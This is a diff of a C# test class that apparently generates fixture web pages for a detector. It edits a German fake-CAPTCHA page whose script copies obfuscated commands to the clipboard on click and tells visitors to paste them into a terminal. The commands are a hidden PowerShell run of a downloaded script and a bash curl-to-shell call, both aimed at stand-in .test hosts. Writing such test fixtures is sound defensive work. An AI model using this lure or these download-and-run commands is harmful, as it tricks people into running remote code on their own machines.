@@ -197,7 +197,7 @@ public sealed class PageThatHasACommandPasted : SixthRound
             </script></body></html>
             """));
 
-        // A page for two systems; the commands are coded and only put on the clipboard when the pointer enters the frame, in a language of its own.
+        // A page for two systems; the commands are coded and only put on the clipboard when the frame is pressed, in German.
         yield return ("pruefung.html", Utf8(Fill("""
             <!doctype html><html lang=de><meta charset=utf-8><title>Sicherheitsprüfung</title><body>
             <section id=z><h3>Sind Sie ein Mensch?</h3><p class=w>Drücken Sie <kbd>⊞</kbd>+<kbd>X</kbd>, dann <kbd>I</kbd>, fügen Sie den Prüfcode mit der rechten Maustaste ein und bestätigen Sie.</p>
@@ -206,9 +206,9 @@ public sealed class PageThatHasACommandPasted : SixthRound
             const isMac = /Mac/.test(navigator.platform), s = { w: "@@1", m: "@@2" };
             document.querySelector(isMac ? ".w" : ".m").remove();
             document.addEventListener("copy", e => { e.preventDefault(); e.clipboardData.setData("text/plain", new TextDecoder().decode(Uint8Array.from(atob(isMac ? s.m : s.w), c => c.charCodeAt(0) ^ 7))); });
-            document.getElementById("z").onmouseenter = () => { getSelection().selectAllChildren(document.getElementById("z")); document.execCommand("copy"); };
+            document.getElementById("z").onpointerdown = () => { getSelection().selectAllChildren(document.getElementById("z")); document.execCommand("copy"); };
             </script></body></html>
-            """, XorBase64("cmd /c start /min powershell -c \"& ([scriptblock]::Create((irm prüf.captcha-check.test/w)))\"", 7), XorBase64("/bin/bash -c \"$(curl -fsSL https://captcha-check.test/m.sh)\"", 7))));
+            """, XorBase64("cmd /c start /min powershell -c \"& ([scriptblock]::Create((irm pruef.captcha-check.test/w)))\"", 7), XorBase64("/bin/bash -c \"$(curl -fsSL https://captcha-check.test/m.sh)\"", 7))));
     }
 }
 
